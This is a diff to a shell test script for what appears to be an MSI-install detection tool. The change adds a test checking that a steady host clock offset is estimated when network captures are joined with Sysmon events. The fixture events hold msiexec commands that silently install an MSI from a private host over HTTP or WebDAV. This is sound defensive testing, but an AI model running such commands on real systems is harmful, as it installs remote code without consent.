@@ -117,6 +117,22 @@ expect_eq "skewed +90 s and out of order: joined, critical, with the module evid
     "$(jq -c '[.event.severity, (.msiwatch.reasons | join(",")), (.msiwatch.evidence.network | length), .msiwatch.evidence.modules[0].msiwatch.reason]' "$TMP/a5")" \
     '[4,"remote-url-argument,first-seen-ip,windows-installer-user-agent,payload-msi,unsigned-module-load",1,"unsigned-module-load"]'
 
+# 5b. a steady offset: three runs on the host, each with the clock 90 s ahead:
+#     estimated from the joins and reported
+{ n=30
+  for p in http-msi http-dll webdav-msi; do
+      T=$(t0 "$L/$p.pcap")
+      n=$((n + 1))
+      case $p in
+          webdav-msi) sysmon1 "$T" 89.8 "$n" "$MSIEXEC" 'msiexec /i \\10.77.0.20\DavWWWRoot\pkg\setup.msi' ;;
+          *) sysmon1 "$T" 89.6 "$n" "$MSIEXEC" 'msiexec /qn /i http://10.77.0.20/pkg/setup.msi' ;;
+      esac
+  done; } >"$TMP/offset.jsonl"
+alerts -r "$L/http-msi.pcap" -r "$L/http-dll.pcap" -r "$L/webdav-msi.pcap" -e "$TMP/offset.jsonl" >"$TMP/a5b"
+expect_eq "a host's steady clock offset: estimated from three joins, about -90 s, on every alert" \
+    "$(jq -r '.msiwatch.clock_offset_s | if . == null then "none" else (. * 10 | round / 10 | tostring) end' "$TMP/a5b" | tr '\n' ' ')" \
+    "-89.8 -89.8 -89.8 "
+
 # 6. network-only: the Windows Installer fetch of a verified MSI, no events
 alerts -r "$L/http-msi.pcap" >"$TMP/a6"
 expect_eq "network-only chain: one medium alert naming the source as the host" "$(jq -c "$ALERTQ" "$TMP/a6")" \
